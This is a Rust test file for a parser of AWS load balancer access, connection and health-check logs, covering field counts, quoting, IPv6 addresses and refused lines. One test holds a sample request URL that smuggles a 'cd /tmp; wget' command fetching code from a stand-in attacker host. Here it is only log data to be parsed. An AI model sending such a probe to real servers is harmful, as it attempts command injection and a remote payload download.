//! The irregularities that the specification lists for load balancer logs, by their numbers there, and lines
//! that are refused.

use super::test_lines::*;
use super::{Lookalike, lookalike};
use crate::format::LogKind;

fn line(block: &str, row: usize) -> &str {
    block.lines().nth(row).unwrap()
}

/// The first `count` fields, from 13 on, of the first ALB sample, in which only the request (13) holds
/// spaces: two.
fn alb_of(count: usize) -> String {
    let fields: Vec<&str> = line(ALB, 0).split(' ').collect();
    fields[..count + 2].join(" ")
}

#[test]
fn q01_trailing_fields_without_notice() {
    let out = cut(LogKind::Alb, &format!("{} TID_x \"-\" \"a b\"\n", line(ALB, 0)));
    assert_eq!(out.extra(0), [(35, "TID_x"), (36, ""), (37, "a b")]);
    assert_eq!(out.text(0, "ip_address"), Some("10.0.0.9"));
    let columns = ["ip_address"];
    let block = format!("{} TID_x\n", line(ALB, 0));
    let out = cut_columns(LogKind::Alb, block.as_bytes(), &columns, false);
    assert_eq!((out.cells.rows(), out.cells.extra.len()), (1, 0));
    let out = cut(LogKind::AlbConnection, &format!("{} new\n", line(CONNECTION_15, 0)));
    assert_eq!(out.extra(0), [(16, "new")]);
    let out = cut(LogKind::AlbHealthCheck, &format!("{} new\n", line(HEALTH_CHECK_10, 0)));
    assert_eq!(out.extra(0), [(11, "new")]);
    let out = cut(LogKind::Clb, &format!("{} new\n", line(CLB, 0)));
    assert_eq!(out.extra(0), [(16, "new")]);
}

#[test]
fn q02_placeholders_at_the_end() {
    let out = cut(LogKind::Alb, &format!("{} \"-\" \"-\"\n", alb_of(27)));
    assert_eq!(out.text(0, "target_status_code_list"), Some("200"));
    assert_eq!((out.text(0, "classification"), out.text(0, "classification_reason")), (None, None));
    let out = cut(LogKind::Alb, &format!("{} 0\n", alb_of(20)));
    assert_eq!(out.text(0, "matched_rule_priority"), Some("0"));
    assert_eq!(out.text(0, "request_creation_time"), None);
}

#[test]
fn q03_every_historical_field_count() {
    let names = [
        (18, "trace_id"),
        (20, "chosen_cert_arn"),
        (21, "matched_rule_priority"),
        (23, "actions_executed"),
        (27, "target_status_code_list"),
        (30, "conn_trace_id"),
        (33, "request_transform_status"),
        (34, "ip_address"),
    ];
    for count in 18..=34 {
        let out = cut(LogKind::Alb, &alb_of(count));
        assert_eq!((out.cells.rows(), out.refused.len()), (1, 0), "{count}");
        for (field, name) in names {
            assert_eq!(out.text(0, name).is_some(), field <= count, "{name} of {count}");
        }
    }
    let short = cut(LogKind::Alb, &format!("{}\n", alb_of(17)));
    assert_eq!(short.reason(), "17 fields, expected at least 18 (ALB access log)");
}

#[test]
fn q04_twelve_and_fifteen_fields_mixed() {
    let out = cut(LogKind::Clb, &format!("{CLB}{CLB_OLD}{CLB}"));
    assert_eq!((out.cells.rows(), out.refused.len()), (9, 0));
    assert_eq!(out.text(4, "request_proto"), Some("HTTP/1.1"));
    assert_eq!(out.text(4, "user_agent"), None);
    assert_eq!(out.text(5, "user_agent"), Some("curl/8.5.0"));
}

#[test]
fn q05_raw_space_in_url() {
    let out = cut(LogKind::Alb, ALB);
    assert_eq!(out.text(1, "request_verb"), Some("GET"));
    assert_eq!(out.text(1, "request_url"), Some("http://192.0.2.10:80/shell?cd+/tmp;wget+ evil.example/x"));
    assert_eq!(out.text(1, "request_proto"), Some("HTTP/1.1"));
    assert_eq!(
        out.text(1, "redirect_url"),
        Some("https://192.0.2.10:443/shell?cd+/tmp;wget+ evil.example/x")
    );
    assert_eq!(out.text(1, "classification_reason"), Some("SpaceInUri"));
    assert_eq!(out.text(1, "request_processing_time"), Some("-1"));
    assert_eq!((out.text(1, "target_ip"), out.text(1, "target_port")), (None, None));
}

#[test]
fn q06_request_that_could_not_be_read() {
    let out = cut(LogKind::Alb, ALB_30);
    assert_eq!((out.text(0, "request_verb"), out.text(0, "request_proto")), (None, None));
    assert_eq!(out.text(0, "request_url"), Some("http://my-loadbalancer-1.us-east-2.elb.amazonaws.com:80-"));
    assert_eq!(out.text(0, "matched_rule_priority"), None);
}

#[test]
fn q07_request_with_an_empty_version() {
    let out = cut(LogKind::Alb, ALB_30);
    assert_eq!((out.text(1, "request_verb"), out.text(1, "request_proto")), (None, None));
    assert!(out.text(1, "request_url").unwrap().ends_with(":80-/"));
    assert_eq!(out.text(1, "user_agent"), None);
    assert_eq!(out.text(1, "elb_status_code"), Some("200"));
}

#[test]
fn q08_escaped_quotes() {
    let out = cut(LogKind::Alb, ALB);
    assert_eq!(out.text(2, "user_agent"), Some(r"agent \x22x\x22 1.0"));
    let block = line(ALB, 0).replace("curl/8.5.0", r#"say \"hi\" - - 1.0"#);
    let out = cut(LogKind::Alb, &block);
    assert_eq!(out.text(0, "user_agent"), Some(r#"say \"hi\" - - 1.0"#));
    assert_eq!(out.text(0, "ip_address"), Some("10.0.0.9"));
}

#[test]
fn q09_ipv6_without_brackets() {
    let alb = cut(LogKind::Alb, ALB);
    assert_eq!((alb.text(2, "client_ip"), alb.text(2, "client_port")), (Some("2001:db8::7"), Some("50718")));
    let bracketed = cut(LogKind::Alb, &ALB.replace("2001:db8::7:", "[2001:db8::7]:"));
    assert_eq!(bracketed.text(2, "client_ip"), Some("2001:db8::7"));
    let clb = cut(LogKind::Clb, CLB);
    assert_eq!(clb.text(1, "client_port"), Some("53016"));
    let nlb = cut(LogKind::Nlb, NLB);
    assert_eq!(nlb.text(2, "destination_ip"), Some("2001:db8:1a:138:7c01:63c:b510:129f"));
}

#[test]
fn q10_classic_without_an_answer() {
    let block = line(CLB, 3).replace("/slow HTTP/1.1", "/slow");
    let out = cut(LogKind::Clb, &block);
    assert_eq!((out.text(0, "backend_ip"), out.text(0, "backend_port")), (None, None));
    assert_eq!(out.text(0, "backend_processing_time"), Some("-1"));
    assert_eq!(out.text(0, "elb_status_code"), Some("504"));
    assert_eq!(out.text(0, "backend_status_code"), Some("0"));
    assert_eq!(out.text(0, "request_url"), Some("https://www.example.com:443/slow"));
    assert_eq!(out.text(0, "request_proto"), None);
}

#[test]
fn q11_classic_tcp_listener() {
    let out = cut(LogKind::Clb, CLB);
    out.assert_row(
        2,
        &[
            ("time", "2026-01-15T10:00:02.943958Z"),
            ("elb", "my-loadbalancer"),
            ("client_ip", "198.51.100.39"),
            ("client_port", "2818"),
            ("backend_ip", "10.0.0.1"),
            ("backend_port", "80"),
            ("request_processing_time", "0.001069"),
            ("backend_processing_time", "0.000028"),
            ("response_processing_time", "0.000041"),
            ("received_bytes", "82"),
            ("sent_bytes", "305"),
        ],
    );
}

#[test]
fn q12_classic_client_timeout() {
    let block = line(CLB, 3).replace("504 0 0 0", "408 - 1048576 0");
    let out = cut(LogKind::Clb, &block);
    assert_eq!(out.text(0, "elb_status_code"), Some("408"));
    assert_eq!((out.text(0, "backend_ip"), out.text(0, "backend_status_code")), (None, None));
    assert_eq!(out.text(0, "received_bytes"), Some("1048576"));
}

#[test]
fn q13_quotes_dropped_or_added() {
    let bare = line(ALB, 0).replace("\"10.0.0.1:80\" \"200\"", "10.0.0.1:80 200");
    let out = cut(LogKind::Alb, &bare);
    assert_eq!(out.values(0), cut(LogKind::Alb, ALB).values(0));
    let quoted = line(ALB, 0).replace(" 0.086 ", " \"0.086\" ").replace(" TLSv1.2 ", " \"TLSv1.2\" ");
    let out = cut(LogKind::Alb, &quoted);
    assert_eq!(out.values(0), cut(LogKind::Alb, ALB).values(0));
}

#[test]
fn q14_runs_of_spaces() {
    let block = line(ALB, 0).replace(" 0.048 0.037 ", "  0.048   0.037 ").replace("\" \"", "\"  \"");
    let out = cut(LogKind::Alb, &format!(" {block}  \r\n"));
    assert_eq!(out.values(0), cut(LogKind::Alb, ALB).values(0));
}

#[test]
fn q15_other_logs_mixed_in() {
    let others = [
        (NLB, "an NLB access log line among ALB access log lines"),
        (CONNECTION_12, "an ALB connection log line among ALB access log lines"),
        (HEALTH_CHECK_8, "an ALB health check log line among ALB access log lines"),
        (CLB, "a Classic LB access log line among ALB access log lines"),
    ];
    for (block, reason) in others {
        assert_eq!(cut(LogKind::Alb, line(block, 0)).reason(), reason);
    }
    let flow = "2 123456789012 eni-0a 203.0.113.1 10.0.0.1 1 2 6 1 1 1 2 ACCEPT OK";
    assert_eq!(cut(LogKind::Nlb, flow).reason(), "a VPC flow log line among NLB access log lines");
    let out = cut(LogKind::Alb, &format!("{NLB}{ALB}"));
    assert_eq!((out.cells.rows(), out.refused.len()), (3, 4));
    assert_eq!(out.cells.lines, [5, 6, 7]);
    assert_eq!(out.refused.iter().map(|refusal| refusal.line).collect::<Vec<_>>(), [1, 2, 3, 4]);
}

#[test]
fn q16_aborted_network_connection() {
    let out = cut(LogKind::Nlb, NLB);
    out.assert_row(
        3,
        &[
            ("type", "tls"),
            ("version", "2.0"),
            ("time", "2026-01-15T09:01:00"),
            ("elb", "net/my-network-loadbalancer/c6e77e28c25b2234"),
            ("listener", "g3d4b5e8bb8464cd"),
            ("client_ip", "203.0.113.9"),
            ("client_port", "40000"),
            ("destination_ip", "10.100.100.185"),
            ("destination_port", "443"),
            ("connection_time", "0"),
            ("received_bytes", "0"),
            ("sent_bytes", "0"),
            ("tls_connection_creation_time", "2026-01-15T09:01:00"),
        ],
    );
}

#[test]
fn q17_alpn_list_with_quotes() {
    let out = cut(LogKind::Nlb, NLB);
    assert_eq!(out.text(1, "alpn_client_preference_list"), Some("\"h2\",\"http/1.1\""));
    let cut_short = NLB.replace("\"http/1.1\"", "\"http/1");
    let out = cut(LogKind::Nlb, &cut_short);
    assert_eq!(out.text(1, "alpn_client_preference_list"), Some("\"h2\",\"http/1"));
    assert_eq!(out.text(1, "tls_connection_creation_time"), Some("2026-01-15T08:51:20"));
}

#[test]
fn q18_network_fields_appended() {
    let out = cut(LogKind::Nlb, &format!("{} more \"x\n", line(NLB, 0)));
    assert_eq!(out.extra(0), [(23, "more"), (24, "\"x")]);
    assert_eq!(out.text(0, "tls_connection_creation_time"), Some("2026-01-15T02:59:30"));
}

#[test]
fn q19_each_sample_is_told_from_the_others() {
    let samples = [
        (LogKind::Alb, ALB),
        (LogKind::Alb, ALB_30),
        (LogKind::Alb, ALB_18),
        (LogKind::Clb, CLB),
        (LogKind::Clb, CLB_OLD),
        (LogKind::AlbConnection, CONNECTION_12),
        (LogKind::AlbConnection, CONNECTION_15),
        (LogKind::AlbHealthCheck, HEALTH_CHECK_8),
        (LogKind::AlbHealthCheck, HEALTH_CHECK_10),
        (LogKind::Nlb, NLB),
    ];
    for (kind, block) in samples {
        for line in block.lines() {
            assert_eq!(lookalike(line.as_bytes()), Some(Lookalike::Log(kind)), "{line}");
            for other in
                [LogKind::Alb, LogKind::Clb, LogKind::AlbConnection, LogKind::AlbHealthCheck, LogKind::Nlb]
            {
                assert_eq!(cut(other, line).cells.rows(), usize::from(other == kind), "{other}: {line}");
            }
        }
    }
}

#[test]
fn q20_test_object() {
    let text = "Enable AccessLog for ELB: app/NAME/ID at 2020-11-20T09:55:52.806Z";
    assert_eq!(lookalike(text.as_bytes()), Some(Lookalike::TestObject));
    assert_eq!(
        cut(LogKind::Alb, text).reason(),
        "the text of a load balancer's test object among ALB access log lines"
    );
}

#[test]
fn q21_connection_without_tls() {
    let out = cut(LogKind::AlbConnection, CONNECTION_12);
    out.assert_row(
        2,
        &[
            ("time", "2026-01-15T10:00:02.599544Z"),
            ("client_ip", "10.0.0.26"),
            ("client_port", "58206"),
            ("listener_port", "80"),
            ("conn_trace_id", "TID_16132ed0b4112148"),
        ],
    );
    let eleven = line(CONNECTION_12, 0).rsplit_once(' ').unwrap().0;
    let out = cut(LogKind::AlbConnection, eleven);
    assert_eq!((out.text(0, "tls_verify_status"), out.text(0, "conn_trace_id")), (Some("Success"), None));
}

#[test]
fn q26_export_line_is_named() {
    let text = "2026-01-15T10:00:00.000Z 2 123456789012 eni-0a 203.0.113.1 10.0.0.1 1 2 6 1 1 1 2 ACCEPT OK";
    assert_eq!(lookalike(text.as_bytes()), Some(Lookalike::CloudWatchExport));
    assert_eq!(lookalike(b"version account-id"), Some(Lookalike::FlowHeader));
    assert_eq!(lookalike(b"{\"a\":1}"), Some(Lookalike::Json));
    assert_eq!(lookalike(b"something else entirely"), None);
    assert_eq!(lookalike(b""), None);
}

#[test]
fn q41_empty_blank_and_truncated() {
    assert_eq!(cut(LogKind::Alb, "").progress.lines, 0);
    let block = format!("\n{}\r\n  \r\n\n{}", line(ALB, 0), line(ALB, 1));
    let out = cut(LogKind::Alb, &block);
    assert_eq!(out.cells.lines, [2, 5]);
    assert_eq!((out.progress.lines, out.progress.blank, out.progress.next), (5, 3, block.len()));
    assert_eq!(out.cells.whole[0].of(block.as_bytes()), line(ALB, 0).as_bytes());
    assert_eq!(out.text(0, "ip_address"), Some("10.0.0.9"));
    let out = cut(LogKind::Alb, line(ALB, 0).split_once(" 200 ").unwrap().0);
    assert_eq!(out.reason(), "truncated: the file ends after 8 fields, expected at least 18");
    let within = line(ALB, 0).split_once("8.5.0").unwrap().0;
    let few = cut_columns(LogKind::Alb, within.as_bytes(), &["type"], false);
    assert_eq!(few.reason(), "truncated: the file ends within the quotes of field 14");
}

#[test]
fn q42_lambda_target() {
    let out = cut(LogKind::Alb, ALB_30);
    for column in ["target_ip", "target_port", "target_port_list", "target_status_code_list"] {
        assert_eq!(out.text(2, column), None, "{column}");
    }
    let with_status = line(ALB_30, 2).replace(" 502 - ", " 502 200 ");
    assert_eq!(cut(LogKind::Alb, &with_status).text(0, "target_status_code"), Some("200"));
}

#[test]
fn bare_quotes_in_free_text_are_mended() {
    let agents = [
        r#"say "hi" there"#,
        r#""quoted" first"#,
        r#"ends in backslash\"#,
        r#"a " b"#,
        r#"two" "parts"#,
        r#"odd "one"#,
    ];
    for agent in agents {
        for (kind, block) in [(LogKind::Alb, line(ALB, 0)), (LogKind::Clb, line(CLB, 0))] {
            let whole = cut(kind, block);
            let broken = block.replace("curl/8.5.0", agent);
            let out = cut(kind, &broken);
            let mut expected = whole.values(0);
            expected.insert("user_agent", agent);
            assert_eq!(out.refused, [], "{broken}");
            assert_eq!(out.values(0), expected, "{agent}");
            let columns = ["request_url", "user_agent"];
            let few = cut_columns(kind, format!("{broken}\n").as_bytes(), &columns, false);
            assert_eq!(few.text(0, "user_agent"), Some(agent));
        }
    }
    let broken = line(ALB, 0).replace("cart?id=7", "cart\" b?id=7");
    let out = cut(LogKind::Alb, &broken);
    assert_eq!(out.text(0, "request_url"), Some("https://www.example.com:443/cart\" b?id=7"));
    assert_eq!(out.text(0, "user_agent"), Some("curl/8.5.0"));
    assert_eq!(out.text(0, "ip_address"), Some("10.0.0.9"));
}

/// A line of 18 fields was refused for having 14, where one of more fields was mended.
#[test]
fn a_user_agent_that_ends_in_a_backslash_is_mended_in_lines_of_any_age() {
    let agent = r#"ends in backslash\"#;
    for count in 18..=34 {
        let broken = alb_of(count).replace("curl/8.5.0", agent);
        let out = cut(LogKind::Alb, &broken);
        assert_eq!(out.refused, [], "{count}");
        assert_eq!(out.text(0, "user_agent"), Some(agent), "{count}");
        assert_eq!(out.text(0, "trace_id"), cut(LogKind::Alb, &alb_of(count)).text(0, "trace_id"), "{count}");
        let few = cut_columns(LogKind::Alb, format!("{broken}\n").as_bytes(), &["user_agent"], false);
        assert_eq!(few.text(0, "user_agent"), Some(agent), "{count}");
    }
    // Of a line that is really too short nothing is made up.
    let short = alb_of(17).replace("curl/8.5.0", agent);
    assert_eq!(cut(LogKind::Alb, &format!("{short}\n")).cells.rows(), 0);
}

#[test]
fn quotes_that_cannot_be_mended_are_refused() {
    let unclosed = line(CONNECTION_12, 0).replace("C=US\"", "C=US");
    assert_eq!(
        cut(LogKind::AlbConnection, &format!("{unclosed}\n")).reason(),
        "the quote of field 8 is not closed"
    );
    let unclosed = line(ALB, 0).replace("TransformSuccess\"", "TransformSuccess");
    assert_eq!(cut(LogKind::Alb, &format!("{unclosed}\n")).reason(), "the quote of field 33 is not closed");
    let no_anchor = line(ALB_18, 0).replace("libwww-perl", "a\" b").replace("arn:aws", "what");
    assert!(
        cut(LogKind::Alb, &format!("{no_anchor}\n")).reason().starts_with("field 15 cannot stand behind")
    );
}

#[test]
fn unknown_forms_in_their_places_are_kept() {
    let block =
        line(ALB, 0).replace("ECDHE-RSA-AES128-GCM-SHA256", "new.cipher").replace("TLSv1.2", "QUICv1");
    let out = cut(LogKind::Alb, &block);
    assert_eq!(
        (out.text(0, "ssl_cipher"), out.text(0, "ssl_protocol")),
        (Some("new.cipher"), Some("QUICv1"))
    );
    let out = cut(LogKind::Alb, &line(ALB, 0).replacen("https", "h9", 1));
    assert_eq!(out.text(0, "type"), Some("h9"));
}

#[test]
fn leading_shapes_are_named() {
    let block = line(ALB, 0).replace("2026-01-15T10:00:00.186641Z", "yesterday");
    assert_eq!(cut(LogKind::Alb, &block).reason(), "field 2 is not an ISO 8601 time");
    let block = line(CLB, 0).replace("198.51.100.39:2817", "nobody");
    assert_eq!(cut(LogKind::Clb, &block).reason(), "field 3 is not CLIENT:PORT");
}

#[test]
fn only_what_is_wanted_is_looked_at() {
    let short = "https 2026-01-15T10:00:00.186641Z app/a/b 198.51.100.39:2817 rest\n";
    let out = cut_columns(LogKind::Alb, short.as_bytes(), &["client_port", "type"], false);
    assert_eq!((out.text(0, "client_port"), out.text(0, "type")), (Some("2817"), Some("https")));
    let out = cut_columns(LogKind::Alb, short.as_bytes(), &[], false);
    assert_eq!(out.cells.rows(), 1);
    assert_eq!(cut(LogKind::Alb, short).cells.rows(), 0);
}
